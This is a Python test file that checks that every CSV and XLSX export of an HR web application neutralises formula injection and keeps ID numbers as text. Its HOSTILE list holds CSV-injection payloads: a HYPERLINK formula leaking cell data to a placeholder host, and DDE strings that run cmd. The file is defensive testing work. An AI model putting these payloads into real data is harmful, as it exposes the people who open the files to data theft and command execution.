"""Every CSV/XLSX download of the project, fed hostile names: no cell may reach a spreadsheet as a
formula, XLSX cells hold the names verbatim (no apostrophe) and NIPs stay text.

The exports are found, not listed: every URL pattern of Pamong's own apps (the permission matrix's
targets and our own admin pages) is opened with ``?format=csv`` as the administrator; whatever
answers ``text/csv`` or XLSX is an export, and is then fetched in every format.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from django.db.models import F, Value
from django.db.models.functions import Concat
from django.test import Client
from django.urls import NoReverseMatch, reverse
from wagtail.models import Page

from pamong.exports import FORMATS, FORMULA_STARTS
from pamong.hr.views import DASHBOARD_TABLES
from pamong.people.models import ASN, Instansi, Jabatan, UnitKerja
from tests.security.targets import build_objects, url_for
from tests.security.test_permission_matrix import MATRIX
from tests.security.urlwalk import iter_routes

from .conftest import YEAR

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://x.invalid/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "{=1+1}",
]
OUR_APPS = ("pamong.", "learning.", "competencies.", "performance.")
#: Known exports: the walk must find at least these (so an empty walk cannot pass).
KNOWN = {
    "performance:period_results_csv",
    "hr:dashboard_export",
    "hr:talent_export",
    "competencies_gap_report",
    "competencies_jp_report",
    "socialization_coverage",
}
SPREADSHEET_TYPES = ("text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")


def _make_hostile() -> None:
    """Every name a download can show starts like a formula."""
    for i, asn in enumerate(ASN.objects.order_by("pk")):
        ASN.objects.filter(pk=asn.pk).update(name=HOSTILE[i % len(HOSTILE)] + f" ASN{i}")
    for model in (Instansi, UnitKerja, Jabatan):
        model.objects.update(name=Concat(Value(HOSTILE[0]), F("name")))
    Page.objects.filter(depth__gt=2).update(title=Concat(Value(HOSTILE[1]), F("title")))


def _urls(world, objects, hr_world) -> list[tuple[str, str]]:
    """(key, url) of every GET-able URL of our apps."""
    found = []
    for route in iter_routes():
        module = getattr(route.pattern.callback, "__module__", "")
        if not module.startswith(OUR_APPS):
            continue
        if route.key == "hr:dashboard_export":
            found += [(route.key, reverse(route.key, args=[t])) for t in DASHBOARD_TABLES]
        elif route.key == "performance:period_results_csv":
            found += [
                (route.key, reverse(route.key, args=[p.pk])) for p in (objects["period"], hr_world.period)
            ]
        elif route.key in MATRIX:
            if MATRIX[route.key].method == "get":
                found.append((route.key, url_for(route.key, objects, world)))
        elif not route.converters:
            try:
                found.append((route.key, reverse(route.key)))
            except NoReverseMatch:
                continue
    return found


def _check_csv(url: str, body: bytes, delimiter: str) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), f"{url}: no BOM"
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=delimiter))
    for row in rows:
        for cell in row:
            if cell[:1] in FORMULA_STARTS:
                try:
                    float(cell.replace(",", "."))
                except ValueError:
                    pytest.fail(f"{url}: a cell a spreadsheet reads as a formula: {cell!r}")
    return rows


def _check_xlsx(url: str, body: bytes) -> list[tuple]:
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                xml = book.read(name).decode()
                assert not re.search(r"<f[ >]", xml), f"{url}: a formula cell in {name}"
    rows = list(openpyxl.load_workbook(io.BytesIO(body), read_only=True).active.values)
    for row in rows:
        for cell in row:
            assert not (isinstance(cell, str) and cell.startswith("'")), f"{url}: apostrophe shown: {cell!r}"
    return rows


def test_every_export_neutralises_hostile_names(world, hr_world, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    objects = build_objects(world)
    _make_hostile()
    admin = Client()
    admin.force_login(world.admin)
    exports = {}
    for key, url in _urls(world, objects, hr_world):
        sep = "&" if "?" in url else "?"
        params = f"tahun={YEAR}"
        response = admin.get(f"{url}{sep}{params}&format=csv")
        if response.status_code == 200 and response["Content-Type"].startswith(SPREADSHEET_TYPES):
            exports.setdefault(key, []).append(f"{url}{sep}{params}")
    assert exports.keys() >= KNOWN, f"exports not found: {KNOWN - exports.keys()}"
    shown_verbatim = set()
    for key, urls in exports.items():
        for url in urls:
            for fmt in FORMATS:
                response = admin.get(f"{url}&format={fmt}")
                assert response.status_code == 200, (key, url, fmt)
                body = b"".join(response.streaming_content) if response.streaming else response.content
                if fmt == "xlsx":
                    assert response["Content-Type"].startswith(SPREADSHEET_TYPES[1]), (url, fmt)
                    rows = _check_xlsx(url, body)
                    shown_verbatim |= {c for row in rows for c in row if isinstance(c, str)}
                else:
                    assert response["Content-Type"].startswith("text/csv"), (url, fmt)
                    _check_csv(url, body, ";" if fmt == "csv-id" else ",")
    hostile_asn_names = set(ASN.objects.values_list("name", flat=True))
    assert shown_verbatim & hostile_asn_names, "XLSX cells hold the names exactly as typed"


def test_xlsx_keeps_nips_as_text(hr_world, client_for):
    w = hr_world.world
    response = client_for(w.bkpsdm.user).get(reverse("hr:talent_export"), {"tahun": YEAR, "format": "xlsx"})
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book.active
    nip_cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert nip_cells
    for cell in nip_cells:
        assert cell.data_type == "s" and len(cell.value) == 18 and cell.number_format == "@"
